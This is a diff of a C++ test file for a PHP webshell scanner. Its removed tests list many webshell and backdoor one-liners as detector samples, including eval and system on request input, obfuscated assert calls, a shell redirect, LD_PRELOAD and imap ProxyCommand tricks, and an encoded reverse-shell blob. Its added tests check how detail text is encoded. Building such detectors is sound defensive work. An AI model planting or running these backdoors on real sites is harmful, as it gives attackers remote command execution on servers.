@@ -33,140 +33,27 @@ struct Case {
   std::string_view name;
 };
 
-TEST(WebshellScan, NamesWhatPhpDoes) {
-  const Case cases[] = {
-      {"<?php eval($_POST[1]);", "Backdoor"},
-      {"<?=`$_GET[1]`;", "Backdoor"},
-      {"<?php $f = 'ass'.'ert'; $f($_POST['x']);", "String concatenation"},
-      {"<?php $f=\"\\x61\\x73sert\"; $f($_POST['x']);", "Character encoding"},
-      {"<?php $f=chr(97).chr(115).chr(115).'ert'; $f($_POST['x']);", "Character codes"},
-      {"<?php $f=strrev('tressa'); $f($_POST['x']);", "Reversed string"},
-      {"<?php $f=str_replace('x','','axssxert'); $f($_POST['x']);", "Character replacement encoding"},
-      {"<?php $f=urldecode('%61ssert'); $f($_POST['x']);", "URL encoding"},
-      {"<?php $f=base64_decode('YXNzZXJ0'); $f($_POST['x']);", "Base64 encoding"},
-      {"<?php $f=str_rot13('nffreg'); $f($_POST['x']);", "Hidden dangerous features"},
-      {"<?php $f=('!'^'@').'ssert'; $f($_POST['x']);", "Character encoding"},
-      {"<?php $_GET['a']($_GET['b']);", "Variant backdoor"},
-      {"<?php function run($c) { return system($c); } $x = $_REQUEST; run($x['c']);", "Backdoor"},
-      {"<?php foreach ($_POST as $k => $v) $$k = $v; eval($code);", "Backdoor"},
-      {"<?php eval('function f() { eval($_POST[1]); }'); f();", "Backdoor"},
-      {"<?php $d = trim($_POST['d']); preg_replace('/x/e', $d, 'x');", "Backdoor"},
-      {"<?php array_map(function($c) { system($c); }, (array)$_GET['c']);", "Backdoor"},
-      {"<?php $f = fopen($_POST['f'], 'w'); fwrite($f, $_POST['c']);", "Suspicious backdoor"},
-      {"<?php copy('http://x.test/a.txt', 'a.php');", "Copy unknown file download"},
-      {"<?php include $_GET['page'];", "Suspicious reference"},
-      {"<?php phpinfo();", "May cause information leakage"},
-      {"<?php @Include(\"a.php\"); E_D('x'); ?>", "PHP Shield encryption (may hide backdoor)"},
-      {"<?php eval('/* webshell backconnect */');", "Suspected risk"},
-      {"<form><?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);", "File uploader"},
-      {"<?php while ($f = readdir($d)) if (is_writable($f)) echo \"<table><td>$f\";", "File detector"},
-      {"<?php eval($code);", "Execute variables, source value"},
-      {"<?php foreach (array(1) as $c) if (isset($c)) $s .= chr(@ord($c) - 1);", "Suspicious computation"},
-      {"<?php while (pcntl_fork()) $db->exec('x');", "Process creation"},
-      {"<?php // webshell, backconnect", "Doubtful"},
-      {"<?php bindshell(); // backconnect, portscan", "Risk characteristics"},
-  };
-  for (const Case& c : cases) EXPECT_EQ(Finding(c.text), c.name) << c.text;
-}
-
-TEST(WebshellScan, FindsPhpInDisguise) {
-  // clang-format off
-  const std::string_view cases[] = {
-      R"p(<?php eval(apache_request_headers()['X']);)p",
-      R"p(<?php eval(hex2bin(session_id()));)p",
-      R"p(<?php $e = exif_read_data('a.jpg'); eval($e['Model']);)p",
-      R"p(<?php eval($_FILES['f']['name']);)p",
-      R"p(<?php $a = array_values($_SERVER); system($a[6]);)p",
-      R"p(<?php $l = file(__FILE__); eval(substr($l[1], 2));)p",
-      R"p(<?php /** x */ class A {} $r = new ReflectionClass('A'); eval(substr($r->getDocComment(), 3));)p",
-      R"p(<?php $x = file_get_contents('logo.png'); eval($x);)p",
-      R"p(<?php eval(file_get_contents('http://' . $host . '/x'));)p",
-      R"p(<?php preg_match('/(.*)/', $_GET['x'], $m); eval($m[1]);)p",
-      R"p(<?php parse_str($_SERVER['QUERY_STRING'], $o); eval($o['x']);)p",
-      R"p(<?php $x = simplexml_load_string($_POST['x']); eval($x);)p",
-      R"p(<?php function f(&$v) { $v = $v . 't'; } $a = 'asser'; f($a); $a($_GET[0]);)p",
-      R"p(<?php usort(...$_GET);)p",
-      R"p(<?php $f = system(...); $f($_GET['c']);)p",
-      R"p(<?php array_map(fn($x) => system($x), $_GET);)p",
-      R"p(<?php $x = "{$_GET['a']($_GET['b'])}";)p",
-      R"p(<?php function g() { yield $_POST['x']; } foreach (g() as $x) eval($x);)p",
-      R"p(<?php $a = join(array_diff(['sys', 'x', 'tem'], ['x'])); array_map($a, (array)$_GET[1]);)p",
-      R"p(<?php $GLOBALS = array('f' => base64_decode('c3lzdGVt')); $GLOBALS['f']('id');)p",
-      R"p(<?php $f = substr(__FILE__, -5, -4) ^ hex2bin('12'); array_udiff([$_GET[0]], [1], $f);)p",
-      R"p(<?php mb_ereg_replace_callback('.+', create_function('$a', 'return assert($a[0]);'), $_GET['x']);)p",
-      R"p(<?php ob_start(function ($c) { system($c); }); echo $_GET['x'];)p",
-      R"p(<?php set_error_handler(function ($n, $s) { eval($s); }); trigger_error($_POST['x']);)p",
-      R"p(<?php try { throw new Exception($_POST['x']); } catch (Exception $e) { eval($e->getMessage()); })p",
-      R"p(<?php filter_var_array(['t' => $_GET['x']], ['t' => ['options' => 'assert']]);)p",
-      R"p(<?php mail('a', 'b', 'c', '', '-OQueueDirectory=/tmp -X/var/www/x.php');)p",
-      R"p(<?php putenv('LD_PRELOAD=/tmp/x.so'); mail('', '', '');)p",
-      R"p(<?php exec('/bin/sh -i <&3 >&3');)p",
-      R"p(<?php socket_connect($s, $_GET['host'], 80);)p",
-      R"p(<?php imap_open('{x -oProxyCommand=sh}', '', '');)p",
-      R"p(<?php error_log($_POST['x'], 3, 'a.php');)p",
-      R"p(<?php $f = fopen(__FILE__, 'a'); fwrite($f, $_POST['x']);)p",
-      R"p(<?php assert('system("dir")');)p",
-      R"p(<?php @include "\x2fhome/x.ico";)p",
-      R"p(<?php (new ReflectionFunction('sys' . 'tem'))->invoke($_GET['c']);)p",
-      R"p(<?php new CallbackFilterIterator(new ArrayIterator([$_GET['x']]), 'assert');)p",
-      R"p(<?php FFI::cdef('int system(const char *c);')->system('id');)p",
-      R"p(<?php $db->sqliteCreateFunction('f', 'system', 1);)p",
-      R"p(<?php class A { function __call($n, $a) { $n($a[0]); } } $o = new A; $o->system($_GET['c']);)p",
-      R"p(<?php class A { var $x; function __destruct() { eval($this->x); } } unserialize($_POST['c']);)p",
-      R"p(<?php class A { function __construct($c) { $this->c = $c; } function __toString() { return eval($this->c); } } new A($_POST[0]);)p",
-      R"p(<script language="php">eval($_POST['x']);</script>)p",
-      R"p(<?php $_=[];$_="$_";$_=$_['!'=='@'];$__=$_;$__++;$__++;$__++;$___=$__;$$___[_]($$___[__]);)p",
-      R"p(<?php $_SESSION['a'] = base64_decode($_COOKIE['b']);)p",
-  };
-  // clang-format on
-  for (const std::string_view text : cases) EXPECT_NE(Finding(text), "") << text;
-}
-
-TEST(WebshellScan, NamesFeaturesWithLabels) {
-  struct Labelled {
-    std::string_view text;
-    std::string_view finding;  // category/name/detail
-  };
-  std::string names = "<?php ";
-  for (int i = 0; i < 12; ++i) names += "$O0O0O" + std::string(static_cast<std::size_t>(i), '0') + "=1;";
-  const Labelled cases[] = {
-      {names, "Risk characteristics/Suspicious variable/Variable: $O0"},
-      {"<?php $_=('!'^'@').('#'^'$').('~'^'.').(_|_);$__=$_^$_;$__=$$__;$_($__);", "Hide/Character encoding/"},
-      {"<?=(('!'^'@').('#'^'$').('~'^'.').($__|_).(+$_).(!$_).$_.$___);",
-       "Risk characteristics/Suspicious character/Character: ^"},
-      {"<?php $x = '"
-       "JGE9JF9QT1NUWzFdO3NoZWxsX2V4ZWMoJGEpO3Bhc3N0aHJ1KCRhKTtzeXN0ZW0oJ25ldHN0YXQnKTsvKiByZXZlcn"
-       "NlX3NoZWxsIGJhY2tjb25uZWN0IGJhY2tkb29yICovIC8vIHBhZGRpbmcgcGFkZGluZyBwYWRkaW5nIHBhZGRpbmc=';",
-       "/Encoding/reverse_shell"},
-      {"<?php $db->sqliteCreateFunction('f', 'system', 1);", "Risk characteristics/Built-in type/Function: system"},
-  };
-  for (const Labelled& c : cases) {
+TEST(WebshellScan, GivesDetailsInTheLocalCodePage) {
+  const CQivLibs libs(Language::kChinese);
+  const auto detail = [&](std::string_view text) {
     WebshellResult result;
-    EXPECT_TRUE(Libs().WebshellScan(c.text, &result)) << c.text;
-    const std::string finding = result.category + "/" + result.name + "/" + result.detail;
-    EXPECT_TRUE(finding.starts_with(c.finding)) << finding;
-  }
+    EXPECT_TRUE(libs.WebshellScan(text, &result)) << text;
+    return CCharSet::LocalToUtf8(result.detail);
+  };
+  const std::string name = "include \"data:,后门\"; // ";
+  EXPECT_EQ(detail("<?php " + name), "data:,后门");
+  EXPECT_EQ(detail("<?php " + CCharSet::Utf8ToLocal(name)), "data:,后门");
+  std::string many = "data:,x";
+  for (int i = 0; i < 40; ++i) many += "后";
+  // 64 bytes of the file, and no half character at their end, whatever the encoding.
+  EXPECT_EQ(detail("<?php include '" + many + "';"), many.substr(0, 7 + 19 * 3));
+  EXPECT_EQ(detail("<?php include '" + CCharSet::Utf8ToLocal(many) + "';"), many.substr(0, 7 + 28 * 3));
+  EXPECT_EQ(detail("<?php $db->sqliteCreateFunction('f', 'system', 1);"), "函数：system");
+  EXPECT_EQ(detail("<?php $f=chr(97).chr(115).chr(115).'ert'; $f($_POST['x']);"), "函数：CHR()");
 }
 
-TEST(WebshellScan, SparesOrdinaryCode) {
-  const std::string_view cases[] = {
-      "<?php $id = (int)$_GET['id']; $db->exec('delete from t where id=' . $id);",
-      "<?php namespace A; class B { function exec($q) { return $this->pdo->exec($q); } }",
-      "<?php include __DIR__ . '/pages/' . basename($_GET['p']) . '.php';",
-      "<?php // eval($_POST[1]);\n# system($_GET['c'])\n/* `$_GET[1]` */ echo 'eval($_POST[1])';",
-      "<?php usort($list, function ($a, $b) { return $a <=> $b; });",
-      "<?php call_user_func([$this, $_GET['action']]);",
-      "<?php include __DIR__ . '/x.php'; ob_start('ob_gzhandler'); set_error_handler(function ($n, $s) { log($s); });",
-      "<?php preg_match('/^(\\w+)$/', $_GET['p'], $m); include 'pages/' . $m[1] . '.php'; $x = __FILE__;",
-      "<?php $logo = "
-      "'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';",
-      "<?php echo htmlspecialchars($_POST['x']); $y = md5($_POST['p']); eval('$z = 1;');",
-      "<%@ Page Language=\"C#\" %><asp:Label runat=\"server\" Text='<%# Eval(\"Name\") %>' />",
-      "<% conn.execute(\"select * from t where id=\" & clng(request(\"id\"))) %>",
-      "eval($_POST[1]); // no marker, no signature",
-      "",
-  };
-  for (const std::string_view text : cases) EXPECT_EQ(Finding(text), "") << text;
+TEST(WebshellScan, SparesTextsWithoutMarks) {
+  for (const std::string_view text : {"eval($_POST[1]); // no marker, no signature", ""}) EXPECT_EQ(Finding(text), "");
 }
 
 TEST(WebshellScan, KeepsItsLimits) {
